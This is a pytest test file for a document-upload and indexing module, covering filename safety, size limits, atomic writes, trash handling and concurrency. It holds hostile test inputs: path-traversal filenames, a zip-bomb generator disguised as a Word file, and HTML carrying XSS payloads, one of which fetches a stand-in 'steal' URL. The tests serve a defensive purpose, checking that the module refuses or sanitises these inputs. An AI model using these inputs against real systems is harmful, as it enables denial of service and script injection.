"""Adding and removing documents (index/documents.py): safe names, content and size checks, atomic writes,
.trash/, incremental rebuilds, and hostile input. Fake embedder: seconds."""
from __future__ import annotations

import io
import json
import threading
import zipfile

import pytest

from fakes import FakeEmbedder
from index.documents import (TRASH, UploadError, add_documents, remove_documents, safe_name, write_temp)
from index.store import build_index, load_index

NEW_DOC = "Gamma Memo on Bridges\n\nThe Tarrow bridge reopens in June after its cables were replaced.\n\n" \
          "Tolls on the bridge are abolished for cyclists.\n"


def folder_state(folder):
    """Every file under the folder (hidden ones included, the lock file excepted) with its bytes."""
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*"))
            if p.is_file() and p.name != ".documents.lock"}


def manifest_of(index_dir):
    return json.loads((index_dir / "manifest.json").read_text())


@pytest.fixture
def built(tiny_docs, tmp_path):
    embedder = FakeEmbedder()
    index_dir = tmp_path / "index"
    build_index(tiny_docs, index_dir, embedder)
    embedder.encoded.clear()
    return tiny_docs, index_dir, embedder


def test_add_embeds_only_the_new_document_and_it_is_searchable(built):
    docs, index_dir, embedder = built
    before = manifest_of(index_dir)["counts"]["paragraphs"]
    result = add_documents(docs, index_dir, embedder, [("gamma.txt", io.BytesIO(NEW_DOC.encode()))])
    assert result.added == ["gamma.txt"]
    counts = result.manifest["counts"]
    assert counts["embedded_paragraphs"] == 2  # the two paragraphs of gamma.txt, nothing else
    assert counts["paragraphs"] == before + 2
    assert all("Tarrow" in t or "cyclists" in t for t in embedder.encoded)
    loaded = load_index(index_dir)
    assert {p.doc for p in loaded.paragraphs} == {"alpha.txt", "beta.md", "gamma.txt"}
    assert (docs / "gamma.txt").read_text() == NEW_DOC


def test_remove_moves_the_file_to_trash_and_drops_its_paragraphs_without_re_embedding(built):
    docs, index_dir, embedder = built
    result = remove_documents(docs, index_dir, embedder, ["beta.md"])
    assert result.removed == ["beta.md"]
    assert not (docs / "beta.md").exists()
    assert (docs / TRASH / "beta.md").read_text().startswith("Beta Notes")
    assert result.manifest["counts"]["embedded_paragraphs"] == 0
    assert {p.doc for p in load_index(index_dir).paragraphs} == {"alpha.txt"}
    assert "beta.md" not in result.manifest["sources"]


def test_trash_and_hidden_files_are_never_indexed(built):
    docs, index_dir, embedder = built
    remove_documents(docs, index_dir, embedder, ["beta.md"])
    (docs / ".upload-abc.txt").write_text("Hidden\n\nA hidden paragraph about volcanoes.\n")
    (docs / ".notes.md").write_text("Notes\n\nAnother hidden paragraph about volcanoes.\n")
    manifest = build_index(docs, index_dir, embedder)
    assert sorted(manifest["sources"]) == ["alpha.txt"]


@pytest.mark.parametrize("name, problem", [
    ("../evil.txt", "is a path"),
    ("/etc/passwd.txt", "is a path"),
    ("sub\\evil.txt", "is a path"),
    ("evil\x00.txt", "NUL"),
    (".hidden.txt", "starts with a dot"),
    ("..", "starts with a dot"),
    ("", "without a name"),
    ("notes.exe", "only .txt"),
    ("x" * 300 + ".txt", "longer than"),
])
def test_unsafe_names_are_refused_and_nothing_is_written(built, name, problem):
    docs, index_dir, embedder = built
    before = folder_state(docs), manifest_of(index_dir)
    with pytest.raises(UploadError, match=problem):
        add_documents(docs, index_dir, embedder, [(name, io.BytesIO(NEW_DOC.encode()))])
    assert (folder_state(docs), manifest_of(index_dir)) == before
    assert not (docs.parent / "evil.txt").exists()


def test_safe_name_keeps_an_ordinary_name():
    assert safe_name("Report 2024 (final).PDF") == "Report 2024 (final).PDF"


class Endless(io.RawIOBase):
    """A stream that never ends (an upload bigger than any limit), counting what was read from it."""

    def __init__(self):
        self.read_bytes = 0

    def readable(self):
        return True

    def read(self, n=-1):
        n = 1 << 20 if n is None or n < 0 else n
        self.read_bytes += n
        return b"a" * n


def test_a_file_over_the_limit_is_refused_before_it_is_written_in_full(built):
    docs, index_dir, embedder = built
    before = folder_state(docs)
    stream = Endless()
    with pytest.raises(UploadError, match="larger than the upload limit of 2 MB"):
        add_documents(docs, index_dir, embedder, [("big.txt", stream)], limit=2 << 20)
    assert stream.read_bytes <= 3 << 20  # stopped at the limit, not read to the end (there is none)
    assert folder_state(docs) == before


def test_a_file_known_to_be_too_big_is_refused_without_writing(built, tmp_path):
    docs, index_dir, embedder = built
    big = tmp_path / "big.txt"
    big.write_bytes(b"word " * 300_000)
    with pytest.raises(UploadError, match="larger than the upload limit"):
        add_documents(docs, index_dir, embedder, [("big.txt", big)], limit=1 << 20)
    assert not list(docs.glob(".upload-*"))


def test_an_upload_interrupted_half_way_leaves_nothing(built):
    docs, index_dir, embedder = built
    before = folder_state(docs)

    class Broken(io.RawIOBase):
        sent = 0

        def readable(self):
            return True

        def read(self, n=-1):
            if self.sent:
                raise ConnectionResetError("client went away")
            self.sent = 1
            return b"Half\n\nHalf a document about"

    with pytest.raises(ConnectionResetError):
        add_documents(docs, index_dir, embedder, [("half.txt", Broken())])
    assert folder_state(docs) == before


def test_write_temp_leaves_no_file_when_the_limit_is_passed(tmp_path):
    with pytest.raises(UploadError):
        write_temp(tmp_path, "x.txt", io.BytesIO(b"a" * 5000), limit=4096)
    assert list(tmp_path.iterdir()) == []


def test_a_different_file_with_the_same_name_is_not_overwritten(built):
    docs, index_dir, embedder = built
    original = (docs / "alpha.txt").read_bytes()
    with pytest.raises(UploadError, match="a different file of that name is already in the folder"):
        add_documents(docs, index_dir, embedder, [("alpha.txt", io.BytesIO(NEW_DOC.encode()))])
    assert (docs / "alpha.txt").read_bytes() == original


def test_replace_on_purpose_keeps_the_old_file_in_trash(built):
    docs, index_dir, embedder = built
    original = (docs / "alpha.txt").read_bytes()
    add_documents(docs, index_dir, embedder, [("alpha.txt", io.BytesIO(NEW_DOC.encode()))], replace=True)
    assert (docs / "alpha.txt").read_text() == NEW_DOC
    assert (docs / TRASH / "alpha.txt").read_bytes() == original


def test_the_same_file_again_is_reported_unchanged_and_a_copy_under_another_name_refused(built):
    docs, index_dir, embedder = built
    same = (docs / "alpha.txt").read_bytes()
    result = add_documents(docs, index_dir, embedder, [("alpha.txt", io.BytesIO(same))])
    assert (result.added, result.unchanged) == ([], ["alpha.txt"])
    with pytest.raises(UploadError, match="identical to alpha.txt"):
        add_documents(docs, index_dir, embedder, [("copy.txt", io.BytesIO(same))])
    assert not (docs / "copy.txt").exists()


@pytest.mark.parametrize("name, content", [
    ("empty.txt", b""),
    ("binary.txt", b"\x00\x01\x02" * 100),
    ("fake.pdf", b"%PDF-1.4\nnot really a pdf"),
    ("title-only.md", b"Only a title\n"),
])
def test_a_file_that_does_not_parse_leaves_folder_and_index_as_they_were(built, name, content):
    docs, index_dir, embedder = built
    before = folder_state(docs), manifest_of(index_dir)
    with pytest.raises(UploadError, match="not added") as e:
        add_documents(docs, index_dir, embedder, [(name, io.BytesIO(content))])
    assert name in str(e.value) and ".upload-" not in str(e.value)
    assert (folder_state(docs), manifest_of(index_dir)) == before


def test_one_bad_file_in_a_batch_adds_none_of_them(built):
    docs, index_dir, embedder = built
    before = folder_state(docs)
    with pytest.raises(UploadError, match="empty.txt"):
        add_documents(docs, index_dir, embedder, [("gamma.txt", io.BytesIO(NEW_DOC.encode())),
                                                  ("empty.txt", io.BytesIO(b""))])
    assert folder_state(docs) == before


def zip_bomb_docx() -> bytes:
    """A zip that says it is a Word file (word/document.xml) and inflates 1 KB into about 300 MB."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        with z.open("word/document.xml", "w", force_zip64=True) as member:
            block = b"<w:t>aaaa</w:t>" * 70_000
            for _ in range(300):
                member.write(block)
    return buf.getvalue()


def test_a_zip_bomb_named_docx_is_refused(built):
    docs, index_dir, embedder = built
    bomb = zip_bomb_docx()
    assert len(bomb) < 5 << 20
    before = folder_state(docs)
    with pytest.raises(UploadError, match="report.docx"):
        add_documents(docs, index_dir, embedder, [("report.docx", io.BytesIO(bomb))])
    assert folder_state(docs) == before


SCRIPTED_HTML = b"""<!doctype html><html><head><title>Harbour notice</title>
<script>alert('pwned'); document.title = 'pwned';</script></head>
<body><h1>Harbour notice</h1><p>The harbour closes at dusk for the winter season.</p>
<img src=x onerror="alert('img')"><p onclick="alert(2)">Boats must register with the harbour master.</p>
<script>fetch('http://example.invalid/steal')</script></body></html>"""


def test_html_with_scripts_is_stored_as_is_but_indexed_as_text_only(built):
    from ui.render import document_html

    docs, index_dir, embedder = built
    add_documents(docs, index_dir, embedder, [("notice.html", io.BytesIO(SCRIPTED_HTML))])
    assert (docs / "notice.html").read_bytes() == SCRIPTED_HTML  # stored, byte for byte
    loaded = load_index(index_dir)
    texts = [p.text for p in loaded.paragraphs if p.doc == "notice.html"]
    assert any("closes at dusk" in t for t in texts)
    assert not any("alert" in t or "fetch" in t for t in texts)
    meta = next(d for d in loaded.documents if d["name"] == "notice.html")
    shown = document_html(meta, [p for p in loaded.paragraphs if p.doc == "notice.html"])
    assert "<script" not in shown.lower() and "onerror" not in shown.lower()


def test_twenty_uploads_in_a_burst_are_serialised_and_all_land(built):
    docs, index_dir, embedder = built
    errors = []

    def upload(i):
        text = f"Memo {i}\n\nThe depot number {i} stores grain token{i}x for the winter.\n"
        try:
            add_documents(docs, index_dir, embedder, [(f"memo{i:02d}.txt", io.BytesIO(text.encode()))])
        except Exception as e:  # collected, then asserted empty
            errors.append(e)

    threads = [threading.Thread(target=upload, args=(i,)) for i in range(20)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert errors == []
    loaded = load_index(index_dir)
    assert {f"memo{i:02d}.txt" for i in range(20)} <= {p.doc for p in loaded.paragraphs}
    assert len(loaded.paragraphs) == manifest_of(index_dir)["counts"]["paragraphs"]
    assert not list(docs.glob(".upload-*"))


class GatedEmbedder(FakeEmbedder):
    """Blocks inside encode_passages until released, so a test can act while a build is embedding."""

    def __init__(self):
        super().__init__()
        self.entered, self.release = threading.Event(), threading.Event()

    def encode_passages(self, texts):
        self.entered.set()
        assert self.release.wait(30)
        return super().encode_passages(texts)


def test_removing_a_file_another_request_is_indexing_waits_and_then_removes_it(built):
    docs, index_dir, _ = built
    embedder = GatedEmbedder()
    done = {}
    adder = threading.Thread(target=lambda: done.setdefault("add", add_documents(
        docs, index_dir, embedder, [("gamma.txt", io.BytesIO(NEW_DOC.encode()))])))
    adder.start()
    assert embedder.entered.wait(30)  # gamma.txt is being embedded now
    remover = threading.Thread(target=lambda: done.setdefault("remove", remove_documents(
        docs, index_dir, embedder, ["gamma.txt"])))
    remover.start()
    remover.join(0.5)
    assert remover.is_alive()  # waits for the add to finish rather than pulling the file from under it
    embedder.release.set()
    adder.join(30)
    remover.join(30)
    assert done["add"].added == ["gamma.txt"] and done["remove"].removed == ["gamma.txt"]
    assert (docs / TRASH / "gamma.txt").exists() and not (docs / "gamma.txt").exists()
    assert "gamma.txt" not in {p.doc for p in load_index(index_dir).paragraphs}


def test_removing_an_unknown_or_the_last_document_is_refused(built):
    docs, index_dir, embedder = built
    with pytest.raises(UploadError, match="nope.txt is not in"):
        remove_documents(docs, index_dir, embedder, ["nope.txt"])
    with pytest.raises(UploadError, match="leave nothing to index"):
        remove_documents(docs, index_dir, embedder, ["alpha.txt", "beta.md"])
    with pytest.raises(UploadError, match="is a path"):
        remove_documents(docs, index_dir, embedder, ["../alpha.txt"])
    assert (docs / "alpha.txt").exists() and (docs / "beta.md").exists()


def test_a_failed_rebuild_puts_the_removed_file_back(built, monkeypatch):
    import index.store

    docs, index_dir, embedder = built

    def broken(*args, **kwargs):
        raise OSError("disk full")

    monkeypatch.setattr(index.store, "build_index", broken)
    with pytest.raises(OSError, match="disk full"):
        remove_documents(docs, index_dir, embedder, ["beta.md"])
    assert (docs / "beta.md").exists() and not (docs / TRASH / "beta.md").exists()
    with pytest.raises(OSError, match="disk full"):
        add_documents(docs, index_dir, embedder, [("gamma.txt", io.BytesIO(NEW_DOC.encode()))])
    assert not (docs / "gamma.txt").exists()
